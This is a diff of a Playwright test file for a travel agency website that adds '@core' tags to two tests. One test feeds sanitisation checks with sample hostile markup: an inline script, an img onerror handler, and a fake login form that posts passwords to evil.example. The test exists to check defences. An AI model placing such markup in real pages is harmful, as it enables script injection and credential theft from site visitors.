@@ -1,6 +1,6 @@
 import { expect, test } from './support/agency-site.ts';
 
-test('/about shows title, picture and content, all of the agency', async ({ page, site }) => {
+test('/about shows title, picture and content, all of the agency', { tag: '@core' }, async ({ page, site }) => {
   await page.goto(site.at('aurora', '/about'));
   const main = page.getByRole('main');
   await expect(main.getByRole('heading', { level: 1, name: 'Trips with room to breathe' })).toBeVisible();
@@ -83,7 +83,10 @@ for (const [path, call, host] of [
   });
 }
 
-test('nothing that an agency writes runs, imitates a form or leaves unasked', async ({ page, site }) => {
+test('nothing that an agency writes runs, imitates a form or leaves unasked', { tag: '@core' }, async ({
+  page,
+  site,
+}) => {
   const content = [
     '<h1>Hello</h1><script>window.ran = 1</script><img src=x onerror="window.ran = 2">',
     '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
